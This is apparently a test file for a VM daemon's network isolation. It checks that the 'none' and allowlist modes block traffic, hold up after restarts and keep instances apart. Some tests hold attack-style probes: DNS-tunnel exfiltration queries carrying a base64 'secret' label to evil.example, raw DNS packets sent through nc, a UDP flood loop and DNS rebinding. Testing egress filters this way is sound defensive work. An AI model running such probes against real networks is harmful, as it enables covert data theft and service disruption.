import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Machine } from "../../../packages/daemon/src/core/driver.ts";
import { sh } from "../../../packages/daemon/test/drivers/live-machines.ts";
import { DriverHost, notInVm } from "../driver-host.ts";
import { allowlist, fetch, gatewayOf, NetworkWorld, OTHER, OTHER_PORT, REFUSED, UNKNOWN } from "./network-world.ts";

/** They are sent from the host, in the instance's own network. */
const OWN_PACKETS = "nobody outside of a virtual machine is in its network";

const world = new NetworkWorld();
const { outside, resolver, machines, refusals } = world;
const { port } = outside;

beforeAll(() => world.start());
afterAll(() => world.stop());

describe("open", () => {
  let box: Machine;
  beforeAll(async () => {
    box = await world.boot({ mode: "open" });
  });

  it("leads everywhere outside, and nowhere inside", async () => {
    expect(await fetch(box, `one.test:${port}`)).toBe("from outside");
    expect(await fetch(box, `${OTHER}:${OTHER_PORT}/passwd`)).toContain("404");
    await world.expectInsideIsClosed(box);
  });
});

describe("none", () => {
  let box: Machine;
  beforeAll(async () => {
    box = await world.boot({ mode: "none" });
  });

  it("leads nowhere, and says so at once", async () => {
    const before = resolver.asked.length;
    expect(await fetch(box, `one.test:${port}`)).toMatch(UNKNOWN);
    expect(await fetch(box, `${outside.outside}:${port}`)).toMatch(REFUSED);
    expect(await world.refused(box, "one.test")).toMatchObject({
      protocol: "dns",
      reason: 'the network mode is "none"',
    });
    expect(await world.refused(box, `${outside.outside}:${port}`)).toMatchObject({ protocol: "tcp" });
    expect(resolver.asked.slice(before)).toEqual([]);
    await world.expectInsideIsClosed(box);
  });

  describe("by packets of all kinds", () => {
    beforeEach(notInVm(OWN_PACKETS));

    it("refuses UDP and ICMP", async () => {
      expect(world.sendIcmp(box, outside.outside)).toMatch(REFUSED);
      expect(world.sendUdp(box, OTHER, 53)).toMatch(REFUSED);
      expect(await world.refused(box, outside.outside)).toMatchObject({ protocol: "icmp" });
      expect(await world.refused(box, `${OTHER}:53`)).toMatchObject({ protocol: "udp" });
    });
  });
});

describe("allowlist", () => {
  let box: Machine;
  beforeAll(async () => {
    box = await world.boot(
      allowlist(
        `one.test:${port}`,
        "*.wild.test",
        "alias.test",
        "chain.test",
        "loop.test",
        "inward.test",
        "meta.test",
        "mixed.test",
        "rebind.test",
        "münchen.test",
      ),
    );
  });

  it("leads to the names that are listed, at their ports", async () => {
    expect(await fetch(box, `one.test:${port}`)).toBe("from outside");
    expect(await fetch(box, `ONE.Test.:${port}`)).toBe("from outside");
    expect(await fetch(box, `xn--mnchen-3ya.test:${port}`)).toBe("from outside");
    expect(await fetch(box, `a.wild.test:${port}`)).toBe("from outside");
    expect(await fetch(box, `a.wild.test:${OTHER_PORT}`)).toContain("404");
  });

  it("follows aliases on the host, also when the resolver does not", async () => {
    expect(await fetch(box, `alias.test:${port}`)).toBe("from outside");
    expect(await fetch(box, `chain.test:${port}`)).toBe("from outside");
    expect(await fetch(box, `loop.test:${port}`)).toMatch(UNKNOWN);
  });

  it("leads to no other name, port, address or protocol", async () => {
    const fresh = await world.boot(allowlist(`one.test:${port}`));
    expect(await fetch(fresh, `${outside.outside}:${port}`)).toMatch(REFUSED);
    expect(await fetch(fresh, `one.test:${port}`)).toBe("from outside");
    for (const target of [`one.test:${OTHER_PORT}`, `${OTHER}:${port}`, "8.8.8.8:443"])
      expect(await fetch(fresh, target), target).toMatch(REFUSED);
    for (const name of ["other.test", "sub.one.test", "one.test.evil.example", "test", "wild.test"])
      expect(await fetch(fresh, `${name}:${port}`), name).toMatch(UNKNOWN);
    expect(await sh(fresh, "timeout 20 nc 8.8.8.8 53 </dev/null")).toMatch(REFUSED);
    expect(await world.refused(fresh, `${outside.outside}:${OTHER_PORT}`)).toMatchObject({ protocol: "tcp", boot: 1 });
    expect(await world.refused(fresh, "sub.one.test")).toMatchObject({
      protocol: "dns",
      reason: "not on the allowlist",
    });
    expect(await world.refused(fresh, "8.8.8.8:53", "tcp")).toMatchObject({ reason: "not on the allowlist" });
    await machines.end(fresh);
  });

  describe("by packets of all kinds", () => {
    beforeEach(notInVm(OWN_PACKETS));

    it("refuses UDP and ICMP to others", async () => {
      expect(world.sendIcmp(box, outside.outside)).toMatch(REFUSED);
      expect(world.sendUdp(box, "8.8.8.8", 53)).toMatch(REFUSED);
      expect(await world.refused(box, outside.outside)).toMatchObject({ protocol: "icmp" });
      expect(await world.refused(box, "8.8.8.8:53", "udp")).toMatchObject({ reason: "not on the allowlist" });
    });
  });

  it("does not open what a listed name says of the inside", async () => {
    await world.expectInsideIsClosed(box);
    for (const name of ["inward.test", "meta.test"]) {
      expect(await fetch(box, `${name}:${port}`), name).toMatch(UNKNOWN);
      expect(await world.refused(box, name)).toMatchObject({ reason: "its addresses are private, or too many" });
    }
    expect(await sh(box, "nslookup -type=a mixed.test")).not.toMatch(/10\.77|127\.0\.0\.1\b/);
    expect(await fetch(box, `mixed.test:${port}`)).toBe("from outside");
    expect(await fetch(box, `rebind.test:${port}`)).toBe("from outside");
    resolver.set("rebind.test", [outside.inLan]);
    expect(await fetch(box, `rebind.test:${port}`)).toMatch(UNKNOWN);
  });

  it("carries nothing out in questions, over UDP or TCP", async () => {
    const before = resolver.asked.length;
    const gateway = await gatewayOf(box);
    for (const type of ["txt", "null", "mx", "any", "aaaa", "cname"])
      await sh(box, `nslookup -type=${type} c2VjcmV0.evil.example; nslookup -type=${type} one.test`);
    await sh(box, `nslookup -type=a ${"a".repeat(60)}.${"b".repeat(60)}.evil.example; nslookup 1.2.3.4`);
    // One TXT and one A question over TCP, for evil.example and for the single label "one\.test".
    const header = (id: string): string => `\\0${id}\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0`;
    const evil = `\\0\\36${header("\\1")}\\4evil\\7example\\0\\0\\20\\0\\1`;
    const dotted = `\\0\\32${header("\\2")}\\10one.test\\0\\0\\1\\0\\1`;
    const answers = await sh(
      box,
      `printf '${evil}${dotted}' | timeout 20 nc ${gateway} 53 | tr -c 'a-z.' '\\n' | grep -c 'evil\\|one.test'`,
    );
    expect(answers).toBe("2");
    expect(resolver.asked.slice(before)).toEqual([]);
    expect(await world.refused(box, "c2VjcmV0.evil.example")).toMatchObject({ protocol: "dns" });
    expect(await world.refused(box, /^one\\046test$/)).toMatchObject({ protocol: "dns" });
    await sh(box, "nslookup -type=a x.WILD.test");
    expect(resolver.asked.slice(before)).toEqual(["A x.wild.test"]);
  });

  it("opens literal addresses from the start", async () => {
    const fresh = await world.boot(allowlist(`${outside.outside}:${port}`, OTHER));
    expect(await fetch(fresh, `${outside.outside}:${port}`)).toBe("from outside");
    expect(await fetch(fresh, `${OTHER}:${OTHER_PORT}`)).toContain("404");
    expect(await fetch(fresh, `${outside.outside}:${OTHER_PORT}`)).toMatch(REFUSED);
    await machines.end(fresh);
  });

  it("is the same after a pause", async () => {
    await box.pause();
    await box.resume();
    expect(await fetch(box, `one.test:${port}`)).toBe("from outside");
    expect(await fetch(box, `other.test:${port}`)).toMatch(UNKNOWN);
    expect(await fetch(box, `${OTHER}:9`)).toMatch(REFUSED);
  });
});

describe("what one instance does", () => {
  it("opens nothing for the next at its address, nor does a connection that is left over", async () => {
    const first = await world.boot(allowlist(`one.test:${port}`));
    expect(await fetch(first, `one.test:${port}`)).toBe("from outside");
    const table = world.tableOf(first);
    const elements = (): string => execFileSync("nft", ["list", "table", "inet", table], { encoding: "utf8" });
    const mine = world.interfaceOf(first);
    expect(elements()).toContain(`"${mine}" . ${outside.outside} . ${port}`);
    const address = (await sh(first, "hostname -i")).trim();
    const connections = readFileSync("/proc/net/nf_conntrack", "utf8").split("\n");
    const own = connections.filter((line) => line.includes(`src=${address} dst=${outside.outside} `));
    expect(own.length).toBeGreaterThan(0);
    for (const line of own) expect(line, "a connection table of its own").toMatch(/zone-orig=\d+/);
    await machines.end(first);
    expect(elements()).not.toContain(`"${mine}" . ${outside.outside}`);
  });

  it("is bounded: addresses that a domain may open", async () => {
    const greedy = await world.boot(allowlist("*.bulk.test"));
    for (let at = 0; at < 10; at++) await sh(greedy, `nslookup -type=a n${at}.bulk.test`);
    const table = execFileSync("nft", ["list", "set", "inet", world.tableOf(greedy), "allowed_hosts"], {
      encoding: "utf8",
    });
    expect(table.split(`"${world.interfaceOf(greedy)}" .`).length - 1).toBe(256);
    expect(await world.refused(greedy, "n9.bulk.test")).toMatchObject({
      reason: "its addresses are private, or too many",
    });
    await machines.end(greedy);
  });

  describe("by packets without end", () => {
    beforeEach(notInVm(OWN_PACKETS));

    it("hides no other instance's refusals, however many it makes", async () => {
      const [flood, quiet] = await Promise.all([world.boot({ mode: "none" }), world.boot({ mode: "none" })]);
      world.inNetwork(
        flood,
        `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n for i in range(20000):\n  try: s.sendto(b"x", ("${OTHER}", 1 + i))\n  except OSError: pass`,
      );
      expect(await fetch(quiet, "203.0.113.99:80")).toMatch(REFUSED);
      expect(await world.refused(quiet, "203.0.113.99:80")).toMatchObject({ protocol: "tcp" });
      await world.refused(flood, /^203\.0\.113\.11:/);
      await Promise.all([machines.end(flood), machines.end(quiet)]);
      expect(refusals.filter(({ instanceId }) => instanceId === flood.instanceId).length).toBeLessThanOrEqual(51);
    });
  });
});

describe("a second home", () => {
  it("has rules of its own", async () => {
    const other = new DriverHost();
    const second = other.driver({ resolvConf: world.resolvConf });
    await second.start();
    try {
      const [here, there] = await Promise.all([
        world.boot(allowlist(`one.test:${port}`)),
        second.create(other.spec({ network: { mode: "none" } })),
      ]);
      expect(await fetch(here, `one.test:${port}`)).toBe("from outside");
      expect(await fetch(there, `one.test:${port}`)).toMatch(UNKNOWN);
      expect(await fetch(there, `${outside.outside}:${port}`)).toMatch(REFUSED);
      await machines.end(here);
      await there.kill();
      await there.remove();
    } finally {
      await second.close();
      other.remove();
    }
  });
});

const ECHO = `import socket
server = socket.create_server(("", 9000))
print("ready")
peer, _ = server.accept()
while data := peer.recv(99): peer.sendall(data)`;

describe("a daemon that is started again", () => {
  it("leaves open what was open, connections included, and opens nothing for a moment", async () => {
    const echo = outside.spawn("python3", "-uc", ECHO);
    await once(echo.stdout ?? echo, "data");
    const box = await world.boot(allowlist("one.test"));
    const closed = await world.boot({ mode: "none" });
    expect(await fetch(box, `one.test:${port}`)).toBe("from outside");
    await sh(
      box,
      `{ (echo first; until [ -e /tmp/go ]; do sleep 0.05; done; echo second; sleep 60) | nc ${outside.outside} 9000 > /tmp/out; } > /dev/null 2>&1 &
       until grep -q first /tmp/out; do sleep 0.05; done`,
    );
    for (const one of [box, closed])
      await sh(
        one,
        `(until [ -e /tmp/stop ]; do echo >> /tmp/tries; wget -T 5 -qO- http://${OTHER}:${port}/ && touch /tmp/leak; done) > /dev/null 2>&1 &`,
      );
    await world.restartDriver();
    const adopted = await machines.adopt();
    const again = (machine: Machine): Machine =>
      adopted.find(({ instanceId }) => instanceId === machine.instanceId) ?? machine;

    expect(await fetch(again(box), `${outside.outside}:${port}`), "an address it knows").toBe("from outside");
    expect(
      await sh(again(box), "touch /tmp/go; until grep -q second /tmp/out; do sleep 0.05; done; cat /tmp/out"),
    ).toBe("first\nsecond");
    expect(await fetch(again(box), `one.test:${port}`)).toBe("from outside");
    expect(await fetch(again(box), `other.test:${port}`)).toMatch(UNKNOWN);
    expect(await fetch(again(closed), `one.test:${port}`)).toMatch(UNKNOWN);
    for (const one of [box, closed]) {
      expect(await sh(again(one), "touch /tmp/stop; [ -s /tmp/tries ] && ls /tmp/leak"), "never open").toContain(
        "No such file",
      );
      expect(await fetch(again(one), `${OTHER}:7`)).toMatch(REFUSED);
      expect(await world.refused(again(one), `${OTHER}:7`)).toMatchObject({ protocol: "tcp" });
    }
    for (const machine of adopted) await machines.end(machine);
  });
});
